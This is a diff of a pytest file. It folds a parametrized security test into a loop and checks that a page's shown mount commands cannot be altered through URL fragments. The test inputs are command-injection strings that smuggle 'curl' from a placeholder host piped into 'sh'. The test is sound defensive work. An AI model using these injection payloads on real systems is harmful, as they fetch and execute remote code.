@@ -275,18 +275,16 @@ def test_a_page_of_elsewhere_gets_nothing(page: Page, proxy: RunningProxy) -> No
 
 
 @pytest.mark.parametrize("view", ["repository", "browse"])
-@pytest.mark.parametrize("tail", ["#;curl${IFS}evil|sh", "?a;curl${IFS}evil|sh", "%0acurl evil"])
-def test_a_link_puts_nothing_into_commands(
-    page: Page, proxy: RunningProxy, view: str, tail: str
-) -> None:
+def test_a_link_puts_nothing_into_commands(page: Page, proxy: RunningProxy, view: str) -> None:
     """A link cannot make the page offer commands that hold more than names."""
     shown = "!document.querySelector('#view')?.innerText.includes('Loading')"
     shown += " && document.querySelector('#view h1') !== null"
     codes = "[...document.querySelectorAll('code')].map(one => one.textContent).join(' ')"
     opened(page, proxy, f"#/{view}/{REPO}@main", shown)
     page.until(f"{codes}.includes('lodefs mount {REPO}@main')")
-    opened(page, proxy, f"#/{view}/{REPO}@main{tail}", shown)
-    assert "curl" not in page.run(codes)
+    for tail in ("#;curl${IFS}evil|sh", "?a;curl${IFS}evil|sh", "%0acurl evil"):
+        opened(page, proxy, f"#/{view}/{REPO}@main{tail}", shown)
+        assert "curl" not in page.run(codes), tail
 
 
 def test_no_module_writes_markup() -> None:
